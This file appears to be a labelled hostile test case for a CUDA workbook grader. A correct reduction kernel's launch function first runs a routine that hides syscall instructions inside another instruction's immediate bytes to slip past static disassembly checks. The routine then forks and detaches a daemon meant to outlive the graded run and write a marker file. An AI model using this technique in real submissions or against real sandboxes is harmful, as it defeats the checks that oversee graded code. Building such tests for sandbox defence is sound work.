// hostile: escapes through system calls hidden inside another instruction's bytes: a daemon that outlives the chapter
// expect: accepted
// leaves: wb-escape-04 /tmp/workbook-escaped-04
// No refused name and no system-call instruction that a disassembler sees: the bytes 0f 05
// (syscall) sit inside a movabs's immediate, and a computed jump lands on them. On its first call
// the launcher forks; the child leaves the process group (setsid), takes the name wb-escape-04,
// sleeps two seconds and then writes /tmp/workbook-escaped-04. The static checks cannot see this;
// the sandbox must: the child dies with the chapter's process and the file is never written
// (the test looks for both after the grader ends). The kernel itself is a correct V4; the child,
// which compute-sanitizer waits for, costs it the memcheck run (H200, 2026-12-02: failed, 52/53).
#include "workbook/chapter.cuh"

#include <cstddef>

#include <cuda_runtime.h>

namespace {

// A system call without the syscall instruction in the code a disassembler reads.
long hidden_syscall(long nr, long a, long b, long c) {
  long ret = nr;
  register long r10 asm("r10") = 0;
  asm volatile(
      "lea 1f+2(%%rip), %%r11\n\t"
      "jmp *%%r11\n\t"
      "1: movabs $0x9090909004eb050f, %%rcx\n\t"  // 0f 05: syscall; eb 04: jump past the rest
      : "+a"(ret)
      : "D"(a), "S"(b), "d"(c), "r"(r10)
      : "rcx", "r11", "memory");
  return ret;
}

void escape() {
  if (hidden_syscall(57, 0, 0, 0) != 0) return;  // fork: the parent goes on with the chapter
  hidden_syscall(112, 0, 0, 0);                  // setsid: out of the process group
  const char name[16] = "wb-escape-04";
  hidden_syscall(157, 15, reinterpret_cast<long>(name), 0);  // prctl(PR_SET_NAME)
  const long sleep[2] = {2, 0};
  hidden_syscall(35, reinterpret_cast<long>(sleep), 0, 0);  // nanosleep: outlive the chapter
  const char path[] = "/tmp/workbook-escaped-04";
  const long fd = hidden_syscall(2, reinterpret_cast<long>(path), 0101, 0644);  // open(O_WRONLY|O_CREAT)
  if (fd >= 0) hidden_syscall(1, fd, reinterpret_cast<long>("escaped\n"), 8);  // write
  for (;;) hidden_syscall(35, reinterpret_cast<long>(sleep), 0, 0);  // and stay
}

constexpr unsigned threads_per_block = 256;
constexpr unsigned elements_per_block = 2 * threads_per_block;

__device__ float warp_reduce_last(float* smem, unsigned tid) {
  float v = smem[tid] + smem[tid + 32];
  smem[tid] = v;
  __syncwarp();
  for (unsigned offset = 16; offset > 0; offset >>= 1) {
    v += smem[tid + offset];
    __syncwarp();
    smem[tid] = v;
    __syncwarp();
  }
  return v;
}

__global__ void reduce_unroll_last_warp(const float* in, std::size_t n, float* partials) {
  extern __shared__ float smem[];
  const unsigned tid = threadIdx.x;
  const std::size_t i = static_cast<std::size_t>(blockIdx.x) * blockDim.x * 2 + tid;
  const std::size_t j = i + blockDim.x;
  smem[tid] = ((i < n) ? in[i] : 0.0f) + ((j < n) ? in[j] : 0.0f);
  __syncthreads();
  for (unsigned s = blockDim.x / 2; s > 32; s >>= 1) {
    if (tid < s) smem[tid] += smem[tid + s];
    __syncthreads();
  }
  if (tid < 32) {
    const float sum = warp_reduce_last(smem, tid);
    if (tid == 0) partials[blockIdx.x] = sum;
  }
}

std::size_t launch(const float* in, std::size_t n, float* partials, std::size_t capacity, cudaStream_t stream) {
  (void)capacity;
  static bool escaped = false;
  if (!escaped) {
    escaped = true;
    escape();
  }
  if (n == 0) return 0;
  const std::size_t blocks = (n + elements_per_block - 1) / elements_per_block;
  reduce_unroll_last_warp<<<static_cast<unsigned>(blocks), threads_per_block, threads_per_block * sizeof(float),
                            stream>>>(in, n, partials);
  return blocks;
}

}  // namespace

WORKBOOK_BLOCK_PASS(launch);
